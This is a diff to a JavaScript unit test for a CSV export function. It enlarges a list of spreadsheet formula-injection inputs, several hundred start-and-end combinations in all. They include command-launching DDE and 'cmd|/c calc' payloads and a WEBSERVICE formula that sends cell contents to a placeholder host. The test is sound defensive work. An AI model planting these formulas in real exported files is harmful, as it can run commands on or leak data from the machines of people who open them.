@@ -38,11 +38,28 @@ describe('toCsv', () => {
   });
 
   const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
-  const hostile = STARTS.flatMap((start) =>
-    ['SUM(A1)', 'cmd|/c calc!A1', 'HYPERLINK("https://example.org","x")', '', '40 °C', '"quoted"'].map(
-      (rest) => start + rest,
-    ),
-  );
+  const ENDS = [
+    'SUM(A1)',
+    'cmd|/c calc!A1',
+    'HYPERLINK("https://example.org","x")',
+    '',
+    '40 °C',
+    '"quoted"',
+    'DDE("cmd";"/c calc";"x")',
+    'WEBSERVICE("https://example.org/"&A1)',
+    'IMPORTXML("https://example.org","//a")',
+    '1+1',
+    "'Sheet 1'!A1",
+    '{1;2}',
+    'A1,A2',
+    ' 1',
+    '=1',
+    '\r\n=1',
+    '1\t=2',
+  ];
+  const hostile = STARTS.flatMap((start) => ENDS.map((rest) => start + rest));
+
+  it('has two hundred formulas to try', () => expect(new Set(hostile).size).toBeGreaterThanOrEqual(200));
 
   it.each([true, false])('formulas, safe=%s', async (safe) => {
     const rows = hostile.map((note) => ({ id: note, note, value: -1 }));
